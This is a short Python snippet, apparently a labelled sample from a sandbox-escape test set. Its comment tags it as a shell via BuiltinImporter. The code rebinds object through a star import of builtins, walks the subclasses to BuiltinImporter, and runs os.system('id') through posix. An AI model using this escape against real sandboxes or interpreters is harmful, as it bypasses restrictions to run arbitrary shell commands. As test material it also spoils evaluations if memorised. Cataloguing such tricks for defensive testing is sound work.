# HARM: shell via BuiltinImporter | TRICK: own class named object, then `from builtins import *` silently rebinds object
class object: pass
from builtins import *
for k in object.__subclasses__():
    if k.__name__ == 'BuiltinImporter':
        k.load_module('posix').system('id')
